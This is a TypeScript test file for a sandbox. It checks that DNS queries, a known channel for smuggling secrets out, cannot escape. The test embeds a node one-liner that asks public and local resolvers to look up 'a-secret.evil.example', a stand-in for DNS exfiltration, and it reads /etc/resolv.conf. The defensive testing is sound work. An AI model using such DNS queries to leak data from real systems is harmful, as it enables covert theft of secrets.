// A question to a name server can carry a secret out, a label at a time. The program asks whichever resolver it can think of, and the one that the system names.
import { createSocket } from "node:dgram";
import { expect } from "vitest";
import { NODE } from "../support/program.ts";
import { story } from "../support/escape-stage.ts";

story("no question for a name leaves the sandbox", async (wall) => {
  const resolver = createSocket("udp4");
  let asked = 0;
  resolver.on("message", () => (asked += 1));
  await new Promise<void>((resolve) => { resolver.bind(0, resolve); });
  const { port } = resolver.address();
  const ask = (server: string): string => `const r${server.replaceAll(/\W/g, "")} = new (require("dns").Resolver)({ timeout: 500, tries: 1 }); r${server.replaceAll(/\W/g, "")}.setServers(["${server}"]); r${server.replaceAll(/\W/g, "")}.resolve4("a-secret.evil.example", (error, found) => console.log("${server}", error?.code ?? found));`;
  const { said } = await wall.run(`"${NODE}" -e '${["127.0.0.1", "192.0.2.53", "8.8.8.8", `127.0.0.1:${port}`].map(ask).join("")} require("dns").lookup("a-secret.evil.example", (error, address) => console.log("system", error?.code ?? address)); setTimeout(() => process.exit(), 1500)'; grep nameserver /etc/resolv.conf`);
  resolver.close();
  expect(asked).toBe(0);
  // Every name has an address of the sandbox's own, which says nothing of whether there is such a host: that is asked for when the program speaks to it, and not at all with --deny-unmatched.
  expect(said).toMatch(/^system 127\.1\.\d+\.\d+$/m);
  expect(said).toMatch(/^nameserver 127\./m);
});
